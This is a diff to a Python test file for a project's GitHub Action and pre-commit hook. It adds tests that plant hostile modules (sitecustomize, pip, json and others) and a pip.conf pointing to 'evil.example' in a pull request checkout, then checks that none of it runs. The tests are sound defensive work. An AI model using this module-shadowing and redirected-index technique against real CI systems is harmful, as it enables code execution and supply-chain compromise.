@@ -5,6 +5,7 @@ from __future__ import annotations
 import os
 import re
 import shlex
+import shutil
 import subprocess
 import sys
 from pathlib import Path
@@ -14,8 +15,19 @@ import yaml
 from parts.planted import clean_twin, planted
 
 ROOT = Path(__file__).parents[2]
-CLAIMLAB = f'exec {shlex.quote(sys.executable)} -c "from claimlab.cli.app import main; main()" "$@"'
-GH = 'echo "$@" >> "$CALLS"; while [ "$1" != --body-file ]; do shift; done; cat "$2" >> "$CALLS"'
+SOURCE = repr(str(ROOT / "src"))
+CLAIMLAB = f"""#!{sys.executable}
+import sys
+
+sys.path.insert(0, {SOURCE})  # what an installation would find; beside it, as there, no module
+from claimlab.cli.app import main
+
+main()
+"""
+GH = (
+    "#!/usr/bin/env bash\n"
+    'echo "$@" >> "$CALLS"; while [ "$1" != --body-file ]; do shift; done; cat "$2" >> "$CALLS"'
+)
 
 
 def git(folder: Path, *words: str) -> None:
@@ -34,19 +46,31 @@ def clone(tmp_path: Path) -> Path:
     git(tmp_path, "clone", "-q", str(origin), "clone")
     programs.mkdir()
     for name, code in (("claimlab", CLAIMLAB), ("gh", GH)):
-        (programs / name).write_text(f"#!/usr/bin/env bash\n{code}\n")
+        (programs / name).write_text(f"{code}\n")
         (programs / name).chmod(0o755)
     return tmp_path / "clone"
 
 
+def hostile(clone: Path) -> Path:
+    """Give the pull request modules that Python and pip import; the file that they would write."""
+    ran = clone.parent / "ran"
+    for name in ("json", "re", "claimlab", "pip", "setuptools", "sitecustomize", "usercustomize"):
+        text = f"open({str(ran)!r}, 'a').write({name!r})\n"
+        (clone / f"{name}.py").write_text(text, encoding="utf-8")
+    (clone / "pip.conf").write_text("[global]\nindex-url = https://evil.example\n")
+    return ran
+
+
 def run_action(clone: Path, **inputs: str) -> tuple[int, str, str]:
-    """Run the steps but the installation; the status, what was printed, and the comment."""
+    """Run the steps but the installation; the status, what was printed, and the comment. As in
+    many workflows, PYTHONPATH names the checked-out folder.
+    """
     place, calls = clone.parent, clone.parent / "calls"
     action = yaml.safe_load((ROOT / "action.yml").read_text(encoding="utf-8"))
     values = {f"inputs.{name}": value for name, value in {"checks": "", **inputs}.items()}
     values |= {"runner.temp": str(place), "github.event.pull_request.number": "7"}
     shell = os.environ | {"PATH": f"{place / 'bin'}:{os.environ['PATH']}", "CALLS": str(calls)}
-    shell |= {"GITHUB_STEP_SUMMARY": str(place / "summary"), "PYTHONPATH": ":".join(sys.path)}
+    shell |= {"GITHUB_STEP_SUMMARY": str(place / "summary"), "PYTHONPATH": f".:{clone}"}
     printed = ""
     for step in action["runs"]["steps"][1:]:
         if "inputs.token" in step.get("if", "") and not inputs["token"]:
@@ -68,17 +92,28 @@ ASKED = {"data": "data", "checks": "length keywords", "base": "main", "token": "
 
 
 def test_installing_runs_nothing_of_the_pull_request(clone: Path) -> None:
-    ran, action = clone.parent / "ran", clone.parent / "action"
+    ran, action = hostile(clone), clone.parent / "action"
     action.mkdir()
-    for name in ("pip", "claimlab"):
-        (clone / f"{name}.py").write_text(f"open({str(ran)!r}, 'w')\n", encoding="utf-8")
     step = yaml.safe_load((ROOT / "action.yml").read_text(encoding="utf-8"))["runs"]["steps"][0]
     place = step.get("working-directory", str(clone)).replace(
         "${{ github.action_path }}", str(action)
     )
-    env = os.environ | {"ACTION": str(action / "nothing")}
-    subprocess.run(["bash", "-c", step["run"]], cwd=place, env=env, capture_output=True)
+    env = os.environ | {"PYTHONPATH": f".:{clone}"} | step["env"] | {"ACTION": str(action / "no")}
+    done = subprocess.run(
+        ["bash", "-c", step["run"]], cwd=place, env=env, capture_output=True, text=True
+    )
+    assert "evil.example" not in done.stderr
     assert not ran.exists()
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("data", ["data", "new"])
+def test_auditing_runs_nothing_of_the_pull_request(clone: Path, data: str) -> None:
+    ran = hostile(clone)
+    shutil.copytree(clone / "data", clone / "new")
+    status, printed, _ = run_action(clone, **ASKED | {"data": data})
+    assert status == 0, printed
+    assert not ran.exists(), ran.read_text()
 
 
 @pytest.mark.slow
@@ -115,7 +150,7 @@ def test_the_hooks_of_pre_commit_run(tmp_path: Path) -> None:
     clean_twin(size=60).write(tmp_path / "data")
     hooks = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))
     entry = {hook["id"]: hook["entry"] for hook in hooks}["claimlab-verify"]
-    words = ["bash", "-c", CLAIMLAB, "claimlab", *shlex.split(entry)[1:], str(tmp_path / "data")]
+    words = [sys.executable, "-c", CLAIMLAB, *shlex.split(entry)[1:], str(tmp_path / "data")]
     assert subprocess.run(words, capture_output=True).returncode == 0
     (tmp_path / "data" / "records.parquet").write_bytes(b"no table")
     assert subprocess.run(words, capture_output=True).returncode == 1
